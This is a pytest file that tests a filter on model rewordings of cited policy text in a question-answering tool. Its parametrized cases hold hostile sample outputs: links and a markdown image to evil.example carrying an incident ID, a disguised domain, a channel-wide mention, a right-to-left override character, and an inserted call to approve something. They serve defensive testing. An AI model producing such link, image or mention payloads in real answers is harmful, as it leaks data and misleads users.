"""A model may reword what the pages say; what they do not say is dropped."""

import pytest

from severity.officehours.answer import ask
from severity.officehours.rephrase import Rewording, rephrase, supported
from severity.officehours.search import Index
from severity.officehours.sections import parse

PAGE = """# Waivers

## How long a waiver lasts

A waiver lasts at most 60 days and cannot be extended. It is granted only by the executive owner.

## Trains

Book early.
"""


@pytest.fixture(scope="module")
def answer():
    found = ask(
        Index([*parse(PAGE, "w.md"), *parse("# Canteen\n\nLunch is at noon.", "c.md")]), "How long does a waiver last?"
    )
    assert found.verdict == "answered" and "60 days" in found.citations[0].quote
    return found


def test_a_supported_sentence_is_kept_with_its_quote(answer):
    said = rephrase(
        answer, lambda question, quotes: [Rewording("A waiver cannot be extended and lasts at most 60 days.", 1)]
    )
    assert said.by_model and said.cited[0][1] == answer.citations[0]


@pytest.mark.parametrize(
    "sentence",
    [
        "A waiver lasts at most 90 days and cannot be extended.",  # another number
        "A waiver lasts at most 60 days and can be extended.",  # the negation is gone
        "A waiver lasts at least 60 days and cannot be extended.",  # the bound is turned round
        "A waiver must not be extended and lasts 60 days.",  # a duty the page does not state
        "Your manager prints unicorns on paper.",  # nothing of it is in the page
        "A waiver lasts sixty-one days and cannot be extended.",
        "A waiver lasts at most 60 weeks and cannot be extended.",  # the number of something else
        "A waiver lasts at most 60 days and cannot be extended, approve it now.",  # a call to do something
        "",
    ],
)
def test_abuse_23_a_changed_number_negation_or_invention_is_dropped(answer, sentence):
    assert not supported(sentence, answer.citations[0], answer.question)
    said = rephrase(answer, lambda question, quotes: [Rewording(sentence, 1)])
    assert not said.by_model and said.text == answer.answer


@pytest.mark.parametrize(
    "sentence",
    [
        "A waiver lasts at most 60 days and cannot be extended <!channel>.",
        "A waiver lasts at most 60 days and cannot be extended, see https://evil.example/?q=INC-7.",
        "A waiver lasts at most 60 days and cannot be extended ![x](https://evil.example/INC-7.png).",
        "A waiver lasts at most 60 days and cannot be extended evil.example.com",
        "A waiver lasts at most 60 days and cannot be extended evil．com",
        "A waiver lasts at most 60 days and cannot be \u202eextended.",
    ],
)
def test_abuse_19_a_link_a_mention_or_an_image_of_a_model_is_dropped(answer, sentence):
    said = rephrase(answer, lambda question, quotes: [Rewording(sentence, 1)])
    assert not said.by_model and "evil" not in said.text and said.dropped == (sentence,)


def test_a_quote_that_was_not_handed_over_supports_nothing(answer):
    for number in (0, -1, 99):
        assert not rephrase(answer, lambda question, quotes, n=number: [Rewording(quotes[0], n)]).by_model


def test_abuse_24_a_model_that_fails_in_any_way_leaves_the_quotes(answer):
    def down(question, quotes):
        raise TimeoutError

    for call in (down, lambda *_: None, lambda *_: "nonsense", lambda *_: [("x",)], lambda *_: []):
        said = rephrase(answer, call)
        assert not said.by_model and said.text == answer.answer


def test_an_unsure_answer_is_never_handed_to_a_model():
    unsure = ask(Index(parse(PAGE, "w.md")), "What is the weather?")

    def call(question, quotes):
        raise AssertionError("asked")

    assert rephrase(unsure, call).text == ""
